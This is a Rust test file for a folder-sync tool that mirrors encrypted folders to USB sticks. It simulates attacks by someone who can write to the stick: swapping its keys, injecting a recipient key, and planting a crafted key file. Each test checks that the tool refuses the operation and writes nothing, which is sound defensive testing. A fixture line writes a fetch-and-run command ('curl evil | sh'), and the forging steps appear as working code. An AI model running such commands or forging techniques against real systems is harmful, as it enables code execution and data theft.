//! What whoever finds the stick (or can write to it) can try (issue 9, cases 1, 2 and 8). The
//! attacker knows only what the stick shows in plain (`STICK`: the folder ID and the machines'
//! public keys) and forges files with the `age` crate, as the `age` CLI would. Sticks are plain
//! directories here (`stick:/tmp/…`), no FUSE needed.

use std::collections::BTreeMap;
use std::fs;
use std::io::{Read, Write};
use std::path::{Path, PathBuf};
use std::str::FromStr;

use super::support::{tree, write, Machine};

/// Every file under `dir` with its bytes (the whole stick, to prove nothing was written).
fn snapshot(dir: &Path) -> BTreeMap<PathBuf, Vec<u8>> {
    let mut out = BTreeMap::new();
    let mut todo = vec![dir.to_path_buf()];
    while let Some(d) = todo.pop() {
        for e in fs::read_dir(&d).unwrap().flatten() {
            let p = e.path();
            if e.file_type().unwrap().is_dir() {
                todo.push(p);
            } else {
                out.insert(
                    p.strip_prefix(dir).unwrap().to_path_buf(),
                    fs::read(&p).unwrap(),
                );
            }
        }
    }
    out
}

/// The stick directory of the only folder on the medium at `mount`, and the folder ID.
fn folder_dir(mount: &Path) -> (PathBuf, String) {
    let d = fs::read_dir(mount.join("briefcase"))
        .unwrap()
        .flatten()
        .next()
        .unwrap()
        .path();
    let id = d.file_name().unwrap().to_str().unwrap().to_string();
    (d, id)
}

/// A machine's age identity, read from its identity file as any program could.
fn identity_of(m: &Machine) -> age::x25519::Identity {
    let text = fs::read_to_string(m.home.path().join("config/briefcase/identity.txt")).unwrap();
    let line = text
        .lines()
        .find(|l| l.starts_with("AGE-SECRET-KEY-1"))
        .unwrap();
    age::x25519::Identity::from_str(line).unwrap()
}

/// A machine's public key as `briefcase id` prints it.
fn key_of(m: &Machine) -> String {
    m.stdout(&["id"]).trim().to_string()
}

fn encrypt(to: &[&dyn age::Recipient], plain: &[u8]) -> Vec<u8> {
    let enc = age::Encryptor::with_recipients(to.iter().copied()).unwrap();
    let mut out = Vec::new();
    let mut w = enc.wrap_output(&mut out).unwrap();
    w.write_all(plain).unwrap();
    w.finish().unwrap();
    out
}

fn decrypt(id: &dyn age::Identity, cipher: &[u8]) -> Option<Vec<u8>> {
    let dec = age::Decryptor::new_buffered(cipher).ok()?;
    let mut r = dec.decrypt(std::iter::once(id)).ok()?;
    let mut out = Vec::new();
    r.read_to_end(&mut out).ok()?;
    Some(out)
}

/// The `*.age` files of the stick directory `dir` that `id` decrypts (key files, roots,
/// segments, chunks).
fn readable_by(id: &dyn age::Identity, dir: &Path) -> Vec<PathBuf> {
    snapshot(dir)
        .into_iter()
        .filter(|(p, bytes)| {
            (p.extension().is_some_and(|e| e == "age") || p.starts_with("chunks"))
                && decrypt(id, bytes).is_some()
        })
        .map(|(p, _)| p)
        .collect()
}

/// The recovery passphrase of the tests that use one.
const PASSPHRASE: &str = "correct horse battery staple";

/// Runs briefcase on `m` with the recovery passphrase in its environment; (exit code, output).
fn run_with_passphrase(m: &Machine, args: &[&str]) -> (i32, String) {
    let out = m
        .cmd()
        .env("BRIEFCASE_PASSPHRASE", PASSPHRASE)
        .args(args)
        .output()
        .unwrap();
    let text = format!(
        "{}{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
    (out.status.code().unwrap_or(-1), text)
}

/// The office with folder `work` (a few files, one secret) on a stick at `mount`, mirror name
/// "usb", encrypted to the office and `extra` recipients (`--passphrase` uses [`PASSPHRASE`]),
/// synced once.
fn office_with_stick(d: &Path, extra: &[&str]) -> (Machine, PathBuf, PathBuf, String) {
    let office = Machine::new("office");
    let (work, mount) = (d.join("work"), d.join("usb"));
    fs::create_dir_all(&mount).unwrap();
    write(&work.join("notes.txt"), "the office's notes\n");
    write(&work.join("plans/merger.txt"), "CODENAME-BLUEBIRD\n");
    let target = format!("stick:{}", mount.display());
    let w = work.to_str().unwrap();
    office.ok(&["init", w]);
    let mut args = vec!["mirror", "add", w, &target, "--name", "usb"];
    args.extend_from_slice(extra);
    let (code, out) = run_with_passphrase(&office, &args);
    assert_eq!(code, 0, "{out}");
    office.ok(&["sync", w]);
    (office, work, mount, target)
}

/// The checks every refusal shares: exit non-zero, the message names the folder, the mirror
/// and the path, and no panic.
/// A machine `name` with a folder of its own that carries `folder_id` (made from a made-up dir
/// mirror marker and `briefcase clone`), as anyone who read `STICK` can make: returns the
/// machine and the folder (`NAME-work`).
fn impostor(d: &Path, name: &str, folder_id: &str) -> (Machine, PathBuf) {
    let m = Machine::new(name);
    let fake = d.join(format!("{name}-fake"));
    write(
        &fake.join(".briefcase/folder-id"),
        &format!("{folder_id}\n"),
    );
    let work = d.join(format!("{name}-work"));
    m.ok(&["clone", fake.to_str().unwrap(), work.to_str().unwrap()]);
    (m, work)
}

fn assert_refused(code: i32, out: &str, folder: &str, mirror: &str, path: &str) {
    assert_ne!(code, 0, "refused: {out}");
    assert!(!out.contains("panicked"), "no panic: {out}");
    for (what, w) in [("folder", folder), ("mirror", mirror), ("path", path)] {
        assert!(out.contains(w), "the message names the {what} ({w}): {out}");
    }
}

/// Case 1: the attacker makes a stick of their own for the victim's folder ID, wraps its secret
/// to the victim's public key (both read from the plain `STICK`), and copies its keys, roots,
/// segments and chunks over the victim's stick. The victim's sync is refused before anything is
/// applied or written: the stick's secret is not the one the office pinned when it added it.
#[test]
fn a_stick_whose_keys_were_swapped_is_refused() {
    let d = tempfile::tempdir().unwrap();
    let (office, work, mount, _) = office_with_stick(d.path(), &[]);
    let (victim_dir, folder_id) = folder_dir(&mount);
    let office_key = key_of(&office);
    let stick_text = fs::read_to_string(victim_dir.join("STICK")).unwrap();
    assert!(stick_text.contains(&folder_id) && stick_text.contains(&office_key));

    // The attacker: a folder with the victim's ID (a made-up dir mirror marker + clone), their
    // own files, and a stick of their own for it.
    let (attacker, aw) = impostor(d.path(), "attacker", &folder_id);
    write(&aw.join("notes.txt"), "the attacker's notes\n");
    write(&aw.join("evil.sh"), "curl evil | sh\n");
    let evil_mount = d.path().join("evil-usb");
    fs::create_dir_all(&evil_mount).unwrap();
    let a = aw.to_str().unwrap();
    attacker.ok(&[
        "mirror",
        "add",
        a,
        &format!("stick:{}", evil_mount.display()),
    ]);
    attacker.ok(&["sync", a]);
    let (evil_dir, evil_id) = folder_dir(&evil_mount);
    assert_eq!(evil_id, folder_id);

    // Their stick secret, re-wrapped to the victim's public key.
    let secret = decrypt(
        &identity_of(&attacker),
        &fs::read(evil_dir.join("keys.0.age")).unwrap(),
    )
    .unwrap();
    let stick_secret = String::from_utf8(secret.clone()).unwrap();
    let stick_identity = age::x25519::Identity::from_str(
        stick_secret
            .lines()
            .find_map(|l| l.strip_prefix("identity "))
            .unwrap(),
    )
    .unwrap();
    let victim = age::x25519::Recipient::from_str(&office_key).unwrap();
    let wrapped = encrypt(&[&victim], &secret);
    // Everything but STICK replaced.
    for name in ["keys.0.age", "keys.1.age"] {
        fs::write(victim_dir.join(name), &wrapped).unwrap();
    }
    for name in ["state.0.age", "state.1.age"] {
        fs::copy(evil_dir.join(name), victim_dir.join(name)).unwrap();
    }
    for sub in ["segments", "chunks"] {
        fs::remove_dir_all(victim_dir.join(sub)).unwrap();
        let status = std::process::Command::new("cp")
            .arg("-a")
            .arg(evil_dir.join(sub))
            .arg(victim_dir.join(sub))
            .status()
            .unwrap();
        assert!(status.success());
    }
    let before_local = tree(&work);
    let before_stick = snapshot(&mount);
    write(&work.join("written-after.txt"), "new at the office\n");
    let before_local_with_new = tree(&work);
    assert_ne!(before_local, before_local_with_new);

    let (code, out) = office.run(&["sync", work.to_str().unwrap()]);
    assert_refused(
        code,
        &out,
        work.to_str().unwrap(),
        "usb",
        &format!("briefcase/{folder_id}/keys.0.age"),
    );
    assert!(
        out.contains("is not the one folder") && out.contains("remove and add the mirror"),
        "says what happened and what to do: {out}"
    );
    assert_eq!(
        tree(&work),
        before_local_with_new,
        "nothing was applied locally"
    );
    assert_eq!(
        snapshot(&mount),
        before_stick,
        "nothing was written to the stick"
    );
    // And nothing of the victim's is readable with the attacker's stick key.
    for (p, bytes) in snapshot(&victim_dir) {
        if let Some(plain) = decrypt(&stick_identity, &bytes) {
            for secret in [
                &b"CODENAME-BLUEBIRD"[..],
                b"new at the office",
                b"the office's notes",
            ] {
                assert!(
                    !plain.windows(secret.len()).any(|w| w == secret),
                    "{} holds the victim's data under the attacker's key",
                    p.display()
                );
            }
        }
    }

    // `status` says the same, and the daemon-facing `sync` keeps refusing.
    let (code, out) = office.run(&["sync", work.to_str().unwrap()]);
    assert_ne!(code, 0, "{out}");
    assert_eq!(snapshot(&mount), before_stick);
}

/// Case 1, an older config: a mirror added before stick IDs were recorded gets its stick pinned
/// at the first opening (trust on first use, said in the log); a swap after that is refused.
#[test]
fn an_old_config_pins_the_stick_at_its_first_opening() {
    let d = tempfile::tempdir().unwrap();
    let (office, work, mount, _) = office_with_stick(d.path(), &[]);
    let config = office.home.path().join("config/briefcase/config.toml");
    let text = fs::read_to_string(&config).unwrap();
    assert!(
        text.contains("stick_id"),
        "mirror add records the stick: {text}"
    );
    let old: String = text
        .lines()
        .filter(|l| !l.starts_with("stick_id"))
        .map(|l| format!("{l}\n"))
        .collect();
    fs::write(&config, &old).unwrap();
    let out = office.ok(&["sync", work.to_str().unwrap()]);
    assert!(out.contains("trust on first use"), "the log says so: {out}");
    let again = fs::read_to_string(&config).unwrap();
    assert_eq!(again, text, "the same stick ID is recorded again");

    // Another stick of the same folder, put in its place, is refused.
    let (dir, folder_id) = folder_dir(&mount);
    let (other, ow) = impostor(d.path(), "other", &folder_id);
    let m2 = d.path().join("usb2");
    fs::create_dir_all(&m2).unwrap();
    other.ok(&[
        "mirror",
        "add",
        ow.to_str().unwrap(),
        &format!("stick:{}", m2.display()),
        "--recipient",
        &key_of(&office),
    ]);
    other.ok(&["sync", ow.to_str().unwrap()]);
    fs::remove_dir_all(&dir).unwrap();
    fs::rename(folder_dir(&m2).0, &dir).unwrap();
    let before = tree(&work);
    let (code, out) = office.run(&["sync", work.to_str().unwrap()]);
    assert_refused(
        code,
        &out,
        work.to_str().unwrap(),
        "usb",
        &format!("briefcase/{folder_id}/keys.0.age"),
    );
    assert_eq!(tree(&work), before);
}

/// Appends a recipient line for `key` to the plain `STICK` of the stick at `mount`.
fn inject_recipient(mount: &Path, key: &str) {
    let (dir, _) = folder_dir(mount);
    let mut f = fs::OpenOptions::new()
        .append(true)
        .open(dir.join("STICK"))
        .unwrap();
    writeln!(f, "\n[[recipients]]\nkey = \"{key}\"\nlabel = \"backup\"").unwrap();
}

/// Case 2, `mirror add --recipient`: the attacker appends their key to the plain `STICK`; the
/// office adding a new machine must not encrypt the stick secret to it. The edit is noticed and
/// refused (nothing changed); a sync rewrites `STICK` from the authenticated list, and the add
/// then goes through without the attacker.
#[test]
fn a_recipient_injected_into_stick_is_not_added_by_mirror_add() {
    let d = tempfile::tempdir().unwrap();
    let home = Machine::new("home");
    let home_key = format!("home={}", key_of(&home));
    let (office, work, mount, target) = office_with_stick(d.path(), &["--recipient", &home_key]);
    let (dir, folder_id) = folder_dir(&mount);
    let attacker = age::x25519::Identity::generate();
    inject_recipient(&mount, &attacker.to_public().to_string());
    let newpc = Machine::new("newpc");
    let newpc_key = format!("newpc={}", key_of(&newpc));
    let before_local = tree(&work);
    let before_stick = snapshot(&mount);

    let w = work.to_str().unwrap();
    let (code, out) = office.run(&["mirror", "add", w, &target, "--recipient", &newpc_key]);
    assert_refused(
        code,
        &out,
        w,
        &target,
        &format!("briefcase/{folder_id}/STICK"),
    );
    assert!(out.contains("someone edited it"), "{out}");
    assert_eq!(tree(&work), before_local, "nothing was applied locally");
    assert_eq!(
        snapshot(&mount),
        before_stick,
        "nothing was written to the stick"
    );
    assert!(readable_by(&attacker, &dir).is_empty());

    // A sync rewrites STICK from the encrypted list; then the add works, without the attacker.
    office.ok(&["sync", w]);
    let stick = fs::read_to_string(dir.join("STICK")).unwrap();
    assert!(
        !stick.contains(&attacker.to_public().to_string()),
        "STICK rewritten: {stick}"
    );
    office.ok(&["mirror", "add", w, &target, "--recipient", &newpc_key]);
    assert!(
        readable_by(&attacker, &dir).is_empty(),
        "nothing on the stick opens with the attacker's key"
    );
    let nw = d.path().join("newpc-work");
    newpc.ok(&["clone", &target, nw.to_str().unwrap()]);
    assert_eq!(tree(&nw), tree(&work));
}

/// Case 2, `clone --passphrase`: a new machine opening the stick with its recovery passphrase
/// adds itself to the recipients; a key injected into `STICK` must not come along. Refused
/// before anything is created locally, nothing written.
#[test]
fn a_recipient_injected_into_stick_is_not_added_by_clone_passphrase() {
    let d = tempfile::tempdir().unwrap();
    let (_office, work, mount, target) = office_with_stick(d.path(), &["--passphrase"]);
    let (dir, folder_id) = folder_dir(&mount);
    let attacker = age::x25519::Identity::generate();
    inject_recipient(&mount, &attacker.to_public().to_string());
    let before_stick = snapshot(&mount);

    let newpc = Machine::new("newpc");
    let nw = d.path().join("newpc-work");
    let n = nw.to_str().unwrap();
    let (code, out) = run_with_passphrase(&newpc, &["clone", &target, n, "--passphrase"]);
    assert_refused(
        code,
        &out,
        n,
        &target,
        &format!("briefcase/{folder_id}/STICK"),
    );
    assert!(
        !nw.join(".briefcase-folder").exists() && tree(&nw).is_empty(),
        "nothing was created locally"
    );
    assert_eq!(
        snapshot(&mount),
        before_stick,
        "nothing was written to the stick"
    );
    assert!(readable_by(&attacker, &dir).is_empty());
    assert!(tree(&work).contains_key("plans/merger.txt"));
}

/// Case 8: a key file wrapped to the office's public key whose `names` line has a multibyte
/// character at byte 1 once panicked the reader (a char-boundary slice). Now a clear error
/// naming the file and what to do; nothing applied, nothing written.
#[test]
fn a_crafted_keys_file_is_an_error_not_a_panic() {
    let d = tempfile::tempdir().unwrap();
    let (office, work, mount, _) = office_with_stick(d.path(), &[]);
    let (dir, folder_id) = folder_dir(&mount);
    let office_key = age::x25519::Recipient::from_str(&key_of(&office)).unwrap();
    let fresh = age::x25519::Identity::generate();
    let record = format!(
        "briefcase-stick-secret 1\nfolder {folder_id}\nidentity {}\nnames aé{}\n",
        age::secrecy::ExposeSecret::expose_secret(&fresh.to_string()),
        "0".repeat(61)
    );
    let names = record.lines().find(|l| l.starts_with("names ")).unwrap();
    assert_eq!(
        names.len() - "names ".len(),
        64,
        "64 bytes, byte 1 inside 'é'"
    );
    let wrapped = encrypt(&[&office_key], record.as_bytes());
    for name in ["keys.0.age", "keys.1.age"] {
        fs::write(dir.join(name), &wrapped).unwrap();
    }
    write(&work.join("more.txt"), "more\n");
    let before_local = tree(&work);
    let before_stick = snapshot(&mount);

    let w = work.to_str().unwrap();
    let (code, out) = office.run(&["sync", w]);
    assert_refused(
        code,
        &out,
        w,
        "usb",
        &format!("briefcase/{folder_id}/keys.0.age"),
    );
    assert!(
        out.contains("altered or damaged") && out.contains("recovery passphrase"),
        "says what is wrong and what to do: {out}"
    );
    assert_eq!(tree(&work), before_local, "nothing was applied locally");
    assert_eq!(
        snapshot(&mount),
        before_stick,
        "nothing was written to the stick"
    );
    // `status` reports it too, without dying.
    let (_, out) = office.run(&["status", w]);
    assert!(!out.contains("panicked"), "{out}");
}
